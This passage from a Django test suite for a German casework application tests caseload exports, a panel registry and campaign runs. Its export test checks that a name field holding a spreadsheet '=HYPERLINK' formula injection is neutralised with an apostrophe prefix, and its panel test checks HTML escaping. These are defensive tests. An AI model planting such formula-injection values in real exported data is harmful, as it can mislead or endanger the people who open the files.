    shown = [row["name"] for row in page.context["rows"]]
    rows = _csv(client.get(reverse("casework:caseload_export", args=["csv"])))
    assert rows[0][0] == "zuständig" and rows[0][-2:] == ["offen", "gesamt"]
    assert [row[0] for row in rows[1:]] == ["'" + name if name.startswith("=") else name for name in shown]
    assert rows[1][0].startswith("'=HYPERLINK") and rows[-1][0] == "nicht zugewiesen"
    xlsx = _xlsx(client.get(reverse("casework:caseload_export", args=["xlsx"])))
    assert [row[-1] for row in xlsx[1:]] == [row["total"] for row in page.context["rows"]]
    assert _login(client, fabian).get(reverse("casework:caseload_export", args=["csv"])).status_code == 404


# --- the panel registry ---------------------------------------------------------------------


def test_panels_other_apps_register_are_rendered_in_order_escaped_and_empty_ones_skipped(
    rf, kim, monkeypatch
):
    from django.utils.html import format_html

    from missimo.core import extensions

    monkeypatch.setattr(extensions, "_panels", {})
    extensions.register_panel("case", 30, lambda request, case: "<b>nicht sicher</b>")
    extensions.register_panel("case", 20, lambda request, case: "")
    extensions.register_panel(
        "case",
        10,
        lambda request, case: format_html("<section><h2>Kontrolle {}</h2></section>", case.aktenzeichen),
    )
    extensions.register_panel("property", 10, lambda request, prop: "<p>Objekt</p>")
    case = Case.objects.create(aktenzeichen="T-7")
    panels = extensions.panels("case", rf.get("/"), case)
    assert panels == ["<section><h2>Kontrolle T-7</h2></section>", "&lt;b&gt;nicht sicher&lt;/b&gt;"]
    assert extensions.panels("nirgends", rf.get("/"), case) == []


def test_the_case_page_shows_the_panels_of_the_inspections_and_outcomes_apps():
    from missimo.casework.handover_views import case_panel as handover_panel
    from missimo.core import extensions
    from missimo.inspections.panels import case_panel as inspections_panel
    from missimo.inspections.referral_views import case_panel as referral_panel
    from missimo.outcomes.panels import case_panel as outcomes_panel

    # Handover first (who holds the case), then the inspection, the help referrals, the outcomes.
    assert [entry.function for entry in extensions._panels["case"]] == [
        handover_panel,
        inspections_panel,
        referral_panel,
        outcomes_panel,
    ]


def test_the_demo_agencies_can_take_part_in_campaigns(db):
    Agency.objects.create(name="IT", kind=AgencyKind.IT)
    Agency.objects.create(name="Jobcenter", kind=AgencyKind.JOBCENTER)
    assert [a.name for a in services.agencies_for_campaigns()] == ["Jobcenter"]


def test_a_real_run_of_the_tiny_city_feeds_campaigns_cases_and_the_hint_queue(
    client, imported_city, kim, fabian
):
    from missimo.runs import services as runs

    run = runs.execute_run(runs.start_run(STICHTAG, user=kim, channel="cli").pk)
    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
    _login(client, kim)
    page = client.get(reverse("casework:campaign_select", args=[campaign.pk]))
    assert page.status_code == 200 and page.context["total"] == run.ranking.count() > 0
    client.post(reverse("casework:campaign_select", args=[campaign.pk]), {"aktion": "top", "top_n": "3"})
    cases = list(campaign.cases.select_related("property"))
    assert len(cases) == 3 and all(c.property is not None and c.hints.exists() for c in cases)
    for case in cases:
        assert client.get(reverse("casework:case_detail", args=[case.pk])).status_code == 200
    assert client.get(reverse("casework:hint_queue")).status_code == 200
    _login(client, fabian)
    queue = client.get(reverse("casework:hint_queue"))
    assert queue.status_code == 200
    assert queue.context["page"].paginator.count == runs.hints_for(fabian).filter(run=run).count()
    assert client.get(reverse("casework:my_cases")).status_code == 200
